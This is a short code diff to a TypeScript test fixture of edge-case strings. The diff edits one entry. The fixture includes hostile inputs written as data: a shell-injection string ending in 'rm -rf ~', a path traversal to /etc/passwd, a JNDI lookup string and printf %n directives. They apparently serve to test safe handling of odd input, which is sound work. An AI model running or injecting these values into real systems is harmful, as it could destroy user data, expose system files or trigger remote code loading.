@@ -64,7 +64,7 @@ export const oddButFine: Readonly<Record<string, string>> = {
   'prototype of an object': '__proto__ constructor toString',
   'null and undefined': 'null undefined NaN Infinity true',
   'printf directives': '%s %d %n %x %999999s',
-  'shell command': '$(touch /tmp/x); `id` && rm -rf ~',
+  'shell command': '$(touch x); `id` && rm -rf ~',
   'path upwards': '../../../../etc/passwd',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
   'lookup in a log': '${jndi:ldap://example.org/a}',
